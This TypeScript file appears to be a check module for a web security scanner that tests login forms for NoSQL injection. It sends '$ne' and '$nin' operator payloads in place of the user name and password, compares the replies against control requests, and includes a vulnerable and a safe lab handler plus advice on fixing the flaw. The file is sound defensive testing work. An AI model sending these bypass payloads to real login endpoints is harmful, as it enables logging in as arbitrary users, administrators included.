import type { InventoryItem, Parameter } from '../../../crawl/inventory/inventory.ts';
import { areAlike } from '../../../oracle/two-sided.ts';
import { defineRequestCheck } from '../../define-active-check.ts';
import type { PlannedRequest } from '../../experiment.ts';
import { type PointRequest, requestWith } from '../../insertion-point.ts';
import { matchesMember } from '../../labs/mongo.ts';
import { opens } from '../../shared/login-bypass.ts';
import { isSqlLogin, logInWith, nameOf, passwordOf } from '../../shared/sql-login.ts';

/** A query operator of a document database, and the value that it compares with. */
type Operator = readonly [operator: string, told: string | readonly string[]];

const isWritable = (parameter: Parameter | undefined) =>
  parameter?.location === 'json' || parameter?.location === 'form';

/** Writes an operator in place of a text: as an object in JSON, in brackets behind the name in a form. */
function withOperator(item: InventoryItem, parameter: Parameter, [operator, told]: Operator): PointRequest {
  // The other field may have an operator already, behind another name than that of its parameter.
  const point = { item: item.body ? { ...item, parameters: [parameter] } : item, parameter };
  if (parameter.location === 'json') return requestWith(point, JSON.stringify({ [operator]: told }), true);
  const name = `${encodeURIComponent(parameter.name)}[${operator}]${Array.isArray(told) ? '[]' : ''}`;
  return requestWith(point, String(told), false, name);
}

function loginWith(item: InventoryItem, user: Operator, password: Operator): PointRequest {
  const [name, secret] = [nameOf(item), passwordOf(item)];
  if (!name || !secret) throw new Error('is no login');
  const { body = '', headers = [] } = withOperator(item, secret, password);
  const type = headers.find(([header]) => header === 'Content-Type')?.[1] ?? '';
  return withOperator({ ...item, body: { type, text: body.toString() } }, name, user);
}

const bypassOf = (item: InventoryItem, word: string) => loginWith(item, ['$ne', word], ['$ne', word]);

export default defineRequestCheck({
  id: 'nosql-injection-login',
  title: 'NoSQL injection: login bypass without a password',
  cwe: 943,
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:N',
  cvss4: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N',
  impact: 'An attacker logs in as any user, administrators included, without knowing a name or a password.',
  why: 'The login accepts objects where it expects strings, and the database interprets them as query operators. An attacker sends a password that is "not equal" to some word and is logged in as the first user that matches. Operators that match every user logged in; one that matches no password, and one that does not exist, did not.',
  fix: 'Validate the login against a schema, so that user name and password are strings, and disable the parsing of nested objects from forms. Look up the account by its name only, and verify the password hash in the application.',
  references: [
    'https://owasp.org/www-project-web-security-testing-guide/stable/4-Web_Application_Security_Testing/07-Input_Validation_Testing/05.6-Testing_for_NoSQL_Injection',
    'https://cheatsheetseries.owasp.org/cheatsheets/Injection_Prevention_Cheat_Sheet.html',
    'https://cwe.mitre.org/data/definitions/943.html',
  ],
  risk: 'intrusive',
  isForLogins: true,
  depth: 'STANDARD',
  appliesTo: (item) => isSqlLogin(item) && isWritable(nameOf(item)) && isWritable(passwordOf(item)),
  variants: ['operators'],
  maxRequests: 14,
  async probe(item, { word }, { askAsNewVisitor }) {
    const unknown = await askAsNewVisitor(logInWith(item, word, word));
    return opens(await askAsNewVisitor(bypassOf(item, word)), unknown) ? ['operators'] : [];
  },
  proof: {
    plan(item, _variant, { word }) {
      const as = (label: string, request: PointRequest, how?: Pick<PlannedRequest, 'isControl'>): PlannedRequest => ({
        label,
        request,
        session: { isNew: true },
        ...how,
      });
      const control = { isControl: true };
      return {
        unknown: as('random user name and password', logInWith(item, word, word), control),
        true1: as('any user and password but the random word', bypassOf(item, word)),
        isFalse: as(
          'any user with the random word as password',
          loginWith(item, ['$ne', word], ['$eq', word]),
          control,
        ),
        true2: as('the same by another operator', loginWith(item, ['$nin', [word]], ['$nin', [word]])),
        broken: as('operator that does not exist', loginWith(item, ['$ne', word], [`$${word}`, word]), control),
      };
    },
    judge({ unknown, true1, isFalse, true2, broken }) {
      const isDenied = areAlike(unknown, isFalse) && [isFalse, broken].every((answer) => !opens(answer, unknown));
      return isDenied && opens(true1, unknown) && opens(true2, unknown) ? 'PROVED' : 'REFUTED';
    },
  },
  lab() {
    const enter = (isMember: boolean) =>
      isMember
        ? { headers: { 'content-type': 'application/json' }, body: '{"token":"7c1f03a94be2"}' }
        : { status: 401, body: 'Wrong name or password' };
    const read = (body: string) => JSON.parse(body) as Record<'email' | 'password', unknown>;
    return {
      item: {
        method: 'POST',
        url: '/login',
        parameters: [
          { location: 'json', name: '/email', value: 'x' },
          { location: 'json', name: '/password', value: 'x' },
        ],
        body: { type: 'application/json', text: '{"email":"x","password":"x"}' },
        seenAs: null,
        contentType: 'application/json',
      },
      vulnerable({ body }) {
        const { email, password } = read(body);
        try {
          return enter(matchesMember({ email, password }));
        } catch {
          return { status: 500, body: 'Something went wrong' };
        }
      },
      safe({ body }) {
        const { email, password } = read(body);
        return enter(matchesMember({ email: String(email), password: String(password) }));
      },
    };
  },
});
